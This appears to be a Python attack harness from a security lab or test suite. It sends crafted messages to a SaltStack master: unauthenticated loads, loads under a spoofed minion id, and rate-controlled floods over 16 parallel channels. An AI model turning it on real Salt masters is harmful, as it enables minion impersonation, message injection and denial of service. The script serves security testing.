"""
Sends a host's master what no minion of Salt's would, with the key of that host's minion.

Run on a host, by ``lab attack`` or a test, with the path of its minion's configuration.  Reads
lines of JSON from its standard input; for each, prints a line with ``answer`` or ``error``:

load
    What is sent, such as ``{"cmd": "_minion_event", "tag": "x", "data": {}}``.
clear
    Not encrypted, as from somebody who has signed in nowhere.
id
    In whose name an encrypted one is sent; the minion's own by default.
master
    Address; by default the first of the configuration.
rate, seconds
    Send it that often a second, for that long; one line in the end, with how many were ``sent``.
"""

import asyncio
import contextlib
import json
import sys
import time
from typing import Any

import salt.channel.client
import salt.config
import salt.exceptions
import salt.minion

PATIENCE = 20
# Messages that are on their way at one time.
ABREAST = 16


def channel_of(path: str, message: dict[str, Any]) -> Any:
    """Return a channel to a master: as a minion, or as nobody."""
    opts = salt.config.minion_config(path)
    known = opts["master"] if isinstance(opts["master"], list) else [opts["master"]]
    opts.update(master=message.get("master") or known[0])
    # Who is not let in would ask for ever.
    opts.update(
        auth_tries=1, auth_timeout=PATIENCE, acceptance_wait_time=0, request_channel_tries=1
    )
    opts.update(salt.minion.prep_ip_port(opts))
    opts.update(salt.minion.resolve_dns(opts))
    crypt = "clear" if message.get("clear") else "aes"
    channel = salt.channel.client.AsyncReqChannel.factory(opts, crypt=crypt)
    # Goes with every message; who signs in is another matter.
    channel.opts["id"] = message.get("id") or opts["id"]
    return channel


async def send(channel: Any, message: dict[str, Any]) -> dict[str, Any]:
    """Send a message once; return what is said of it."""
    try:
        answer = await asyncio.wait_for(
            channel.send(dict(message["load"]), tries=1, timeout=PATIENCE), 2 * PATIENCE
        )
    except (salt.exceptions.SaltException, asyncio.TimeoutError, SystemExit) as err:
        return {"error": f"{type(err).__name__}: {err}"}
    return {"answer": answer}


async def flood(path: str, message: dict[str, Any]) -> dict[str, Any]:
    """Send a message again and again, several at a time; return how many were sent."""
    sent, over = 0, time.monotonic() + message["seconds"]
    pause = ABREAST / message["rate"]

    async def one() -> None:
        nonlocal sent
        async with channel_of(path, message) as channel:
            due = time.monotonic()
            while due < over:
                await asyncio.sleep(max(0, due - time.monotonic()))
                due = max(due + pause, time.monotonic())
                await send(channel, message)
                sent += 1

    await asyncio.gather(*(one() for _ in range(ABREAST)))
    return {"sent": sent}


async def main(path: str) -> None:
    """Send what standard input says."""
    for line in sys.stdin:
        message = json.loads(line)
        if "rate" in message:
            said = await flood(path, message)
        else:
            async with channel_of(path, message) as channel:
                said = await send(channel, message)
        print(json.dumps(said, default=repr), flush=True)


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main(sys.argv[1]))
